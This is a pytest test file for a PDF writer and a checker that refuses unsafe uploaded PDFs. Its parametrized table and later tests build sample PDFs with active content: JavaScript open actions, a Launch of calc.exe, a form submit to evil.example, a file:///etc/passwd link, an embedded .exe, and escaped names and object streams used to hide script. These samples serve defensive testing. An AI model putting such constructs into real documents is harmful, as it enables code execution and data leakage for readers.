"""The PDF writer (placeholders, sample and synthetic whitepapers) and the check PDFs pass."""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from pathlib import Path

import pdfbuild
import pypdf
import pytest
from conftest import CONTENT, ROOT
from pypdf.actions import JavaScript as JavaScriptAction
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from copernica_directory.model import load_content
from copernica_directory.model.pdf import pdf_data_problems, pdf_problems
from copernica_directory.tools.pdfwriter import (
    Block,
    blocks_from_text,
    unicode_font_available,
    write_pdf,
)
from copernica_directory.tools.sample_pdfs import SOURCES, sample_pdf

UNICODE = "Łódź, Třeboň, Göteborg, € 1.299,00 and ≥ 5 stars"
TEXT = (
    f"## Heading\nA paragraph about Bølgen and {UNICODE}.\n\n- one\n- two\n\n" + "Long text. " * 600
)
NUMBERS = {"four": 4, "five": 5, "six": 6, "seven": 7, "eight": 8, "nine": 9, "ten": 10}
NUMBERS |= {"eleven": 11, "twelve": 12}

needs_font = pytest.mark.skipif(
    not unicode_font_available(), reason="DejaVu Sans not installed (fonts-dejavu-core)"
)


def _reader(data: bytes) -> pypdf.PdfReader:
    return pypdf.PdfReader(io.BytesIO(data), strict=True)


@needs_font
def test_written_pdf_opens_in_a_strict_reader_with_its_text_and_pages() -> None:
    data = write_pdf("A (title) \\ with Łódź", blocks_from_text(TEXT), author="Copernica")
    reader = _reader(data)
    assert len(reader.pages) >= 2  # long text flows onto more pages
    first = reader.pages[0].extract_text()
    assert "A (title) \\ with Łódź" in first and UNICODE in first.replace("\n", " ")
    assert reader.metadata.title == "A (title) \\ with Łódź"
    assert reader.metadata.author == "Copernica"
    again = write_pdf("A (title) \\ with Łódź", blocks_from_text(TEXT), author="Copernica")
    assert data == again  # deterministic: a fixed date, an id made from the content


def test_markdown_blocks() -> None:
    text = "## H\n### Sub\nOne\ntwo\n\n- a\n1. first\n> said\n"
    text += "| A | B |\n|---|---|\n| x | y |\n---\nEnd"
    assert blocks_from_text(text) == [
        Block("heading", "H"),
        Block("subheading", "Sub"),
        Block("paragraph", "One two"),
        Block("bullet", "a"),
        Block("numbered", "first", number=1),
        Block("quote", "said"),
        Block("table", rows=(("A", "B"), ("x", "y"))),
        Block("pagebreak"),
        Block("paragraph", "End"),
    ]


def test_without_the_unicode_font_text_falls_back_to_cp1252(monkeypatch) -> None:
    monkeypatch.setattr("copernica_directory.tools.pdfwriter.FONT_DIRS", ())
    monkeypatch.delenv("PDF_FONT_DIR", raising=False)
    assert not unicode_font_available()
    page = _reader(write_pdf("Bølgen", blocks_from_text("Łódź costs €"))).pages[0]
    assert "Bølgen" in page.extract_text() and "?ód? costs €" in page.extract_text()


@needs_font
def test_cover_contents_and_one_chapter_a_page() -> None:
    text = "## One\nFirst.\n\n## Two\nSecond.\n\n## Three\nThird."
    reader = _reader(sample_pdf(f"Subtitle ≥\n{text}", "Title", "Us", "en", "x/", None))
    pages = [page.extract_text() for page in reader.pages]
    assert len(pages) == 5  # cover, contents, three chapters
    assert "WHITEPAPER" in pages[0] and "Subtitle ≥" in pages[0]
    assert re.search(r"One\s*3\s*Two\s*4\s*Three\s*5", pages[1])
    assert [p.split("\n")[1] for p in pages[2:]] == ["One", "Two", "Three"]


def test_the_sample_whitepapers_are_real_multi_page_pdfs() -> None:
    content, problems = load_content(CONTENT)
    assert problems == []
    whitepapers = [i for i in content.library.values() if i.type == "whitepapers"]
    assert len(whitepapers) >= 5
    for item in whitepapers:
        path = CONTENT / "library" / "whitepapers" / str(item.file)
        assert pdf_problems(path) == []
        reader = pypdf.PdfReader(path, strict=True)
        assert 4 <= len(reader.pages) <= 12, path
        assert reader.metadata.title == item.title
        assert item.title.split(":")[0] in reader.pages[0].extract_text().replace("\n", " ")
        assert path.stat().st_size < 200_000
        # A length the page promises ("Ten pages on ...") is the length of the PDF.
        claimed = re.match(r"(\w+) pages\b", item.summary)
        if claimed:
            assert NUMBERS[claimed.group(1).lower()] == len(reader.pages), path
    text = " ".join(
        page.extract_text()
        for page in pypdf.PdfReader(CONTENT / "library/whitepapers/sending-across-europe.pdf").pages
    )
    for word in ("Łódź", "Třeboň", "zł", "Kč", "€", "≥"):
        assert word in text  # characters outside Latin-1 print as written


@needs_font
def test_the_sample_pdfs_are_made_from_their_texts(tmp_path: Path) -> None:
    content, _ = load_content(CONTENT)
    item = content.library["whitepapers/deliverability-handbook"]
    text = (ROOT / SOURCES / "deliverability-handbook.txt").read_text(encoding="utf-8")
    url = "partners.copernica.com/library/whitepapers/deliverability-handbook/"
    data = sample_pdf(text, item.title, item.author or "", item.lang, url, item.date)
    assert data == (CONTENT / "library/whitepapers/deliverability-handbook.pdf").read_bytes()


def _writer_pdf(change: Callable[[pypdf.PdfWriter], None]) -> bytes:
    """A one-page PDF from pypdf's own writer, changed by `change` before it is written."""
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _action(**entries: str) -> DictionaryObject:
    """An action dictionary: values starting with / are names, the others strings."""
    action = DictionaryObject()
    for key, value in entries.items():
        is_name = value.startswith("/")
        action[NameObject(f"/{key}")] = NameObject(value) if is_name else TextStringObject(value)
    return action


def _set(path: str, value: object) -> Callable[[pypdf.PdfWriter], None]:
    """Set a catalog or first-page entry ('root/OpenAction', 'page/AA')."""

    def change(writer: pypdf.PdfWriter) -> None:
        where, key = path.split("/")
        target = writer.root_object if where == "root" else writer.pages[0]
        target[NameObject(f"/{key}")] = value

    return change


def _annotation(subtype: str, **entries: object) -> Callable[[pypdf.PdfWriter], None]:
    def change(writer: pypdf.PdfWriter) -> None:
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject(subtype),
                NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 50, 50)]),
            }
        )
        for key, value in entries.items():
            annotation[NameObject(f"/{key}")] = value
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])

    return change


def _outline_with(action: DictionaryObject) -> Callable[[pypdf.PdfWriter], None]:
    def change(writer: pypdf.PdfWriter) -> None:
        item = writer.add_outline_item(title="Chapter", page_number=0)
        item.get_object()[NameObject("/A")] = action

    return change


JS = _action(S="/JavaScript", JS="app.alert(1)")


def _link(**action: str) -> Callable[[pypdf.PdfWriter], None]:
    return _annotation("/Link", A=_action(**action))


def _names(**entries: object) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in entries.items()})


XFA = _names(Fields=ArrayObject(), XFA=TextStringObject("<xdp/>"))
WRITTEN = {
    "document JavaScript": (
        lambda w: w.add_open_action(JavaScriptAction("app.alert(1)")),
        "JavaScript",
    ),
    "JavaScript OpenAction": (_set("root/OpenAction", JS), "JavaScript"),
    "document AA": (_set("root/AA", _names(WC=JS)), "actions that run when"),
    "page AA": (_set("page/AA", _names(O=JS)), "actions that run when"),
    "launch link": (_link(S="/Launch", F="calc.exe"), "an action that starts a program"),
    "widget SubmitForm": (
        _annotation("/Widget", A=_action(S="/SubmitForm", F="https://evil.example/")),
        "SubmitForm",
    ),
    "ImportData": (_set("root/OpenAction", _action(S="/ImportData", F="a.fdf")), "ImportData"),
    "GoToR": (_link(S="/GoToR", F="other.pdf"), "opens another PDF file (GoToR)"),
    "GoToE": (_link(S="/GoToE"), "opens an embedded PDF file (GoToE)"),
    "javascript: link": (
        _link(S="/URI", URI="javascript:app.alert(1)"),
        "'javascript:app.alert(1)'",
    ),
    "file: link": (_link(S="/URI", URI="file:///etc/passwd"), "a link to 'file:///etc/passwd'"),
    "rich media": (_annotation("/RichMedia"), "embedded media"),
    "screen with rendition": (_annotation("/Screen", A=_action(S="/Rendition")), "embedded media"),
    "file attachment": (_annotation("/FileAttachment"), "an attached file"),
    "embedded file": (lambda w: w.add_attachment("invoice.exe", b"MZ"), "embedded files"),
    "XFA form": (_set("root/AcroForm", XFA), "an XFA form"),
    "outline action": (_outline_with(JS), "JavaScript"),
}


@pytest.mark.parametrize("name", WRITTEN)
def test_pdfs_with_active_content_are_refused(name: str) -> None:
    change, message = WRITTEN[name]
    problems = pdf_data_problems(_writer_pdf(change))
    assert any(message in p for p in problems), problems
    assert not any("cannot be read" in p for p in problems), problems


def test_links_to_web_pages_and_mail_are_fine() -> None:
    for address in ("https://www.copernica.com/en", "http://example.com/", "mailto:a@b.example"):
        assert pdf_data_problems(_writer_pdf(_link(S="/URI", URI=address))) == [], address
    goto = _set("root/OpenAction", ArrayObject([NumberObject(0), NameObject("/Fit")]))
    assert pdf_data_problems(_writer_pdf(goto)) == []  # "open at the first page, fitted"


SCRIPT_ACTION = b"/OpenAction << /S /Java#53cript /J#53 (app.alert\\(1\\)) >>"


def test_escaped_names_and_object_streams_do_not_hide_script() -> None:
    escaped = pdfbuild.classic_pdf([pdfbuild.catalog(SCRIPT_ACTION), pdfbuild.PAGES, pdfbuild.PAGE])
    hidden = pdfbuild.object_stream_pdf(
        [pdfbuild.catalog(SCRIPT_ACTION), pdfbuild.PAGES, pdfbuild.PAGE], compressed={1, 2, 3}
    )
    embedded = pdfbuild.object_stream_pdf(
        [
            pdfbuild.catalog(b"/Names << /Embedded#46iles 4 0 R >>"),
            pdfbuild.PAGES,
            pdfbuild.PAGE,
            b"<< /Names [(x.exe) << /Type /Filespec /F (x.exe) >>] >>",
        ],
        compressed={1, 4},
    )
    assert b"JavaScript" not in escaped and b"JS" not in escaped
    assert b"Java" not in hidden and b"Embedded" not in embedded  # only in the compressed stream
    for data in (escaped, hidden):
        pypdf.PdfReader(io.BytesIO(data), strict=True)  # a well-formed file, not a broken one
        assert pdf_data_problems(data) == ["the PDF contains JavaScript; export it without"]
    assert pdf_data_problems(embedded) == ["the PDF contains embedded files; export it without"]
    clean = pdfbuild.object_stream_pdf(
        [pdfbuild.catalog(b""), pdfbuild.PAGES, pdfbuild.PAGE], compressed={1, 2}
    )
    assert pdf_data_problems(clean) == []


def test_encrypted_and_broken_pdfs_are_refused() -> None:
    def encrypt(password: str) -> Callable[[pypdf.PdfWriter], None]:
        return lambda writer: writer.encrypt(password, "owner")

    for password in ("secret", ""):
        assert pdf_data_problems(_writer_pdf(encrypt(password))) == [
            "the PDF is encrypted or has a password; export it without protection"
        ]
    good = pdfbuild.classic_pdf([pdfbuild.catalog(b""), pdfbuild.PAGES, pdfbuild.PAGE])
    assert pdf_data_problems(good) == []
    shifted = good.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /Launch >>")
    problems = pdf_data_problems(shifted)  # offsets no longer match: readers repair it
    assert problems[0].startswith("the PDF cannot be read reliably (")
    assert problems[1:] == ["the PDF contains an action that starts a program; export it without"]
    garbage = b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF\n"
    assert pdf_data_problems(garbage)[0].startswith("the PDF cannot be read reliably")
    deep = pdfbuild.classic_pdf([pdfbuild.catalog(b"/X " + b"[" * 5000 + b"]" * 5000)])
    assert pdf_data_problems(deep)[0].startswith("the PDF cannot be read reliably")
    assert pdf_data_problems(b"<html></html>") == [
        "not a PDF file (it does not start with %PDF-); export the document as PDF"
    ]
    assert pdf_data_problems(good[:-20]) == [
        "the PDF is incomplete (it does not end with %%EOF); export it again"
    ]


def test_the_check_reads_the_file_beside_the_item(tmp_path: Path) -> None:
    path = tmp_path / "x.pdf"
    path.write_bytes(_writer_pdf(WRITTEN["document JavaScript"][0]))
    assert pdf_problems(path) == ["the PDF contains JavaScript; export it without"]
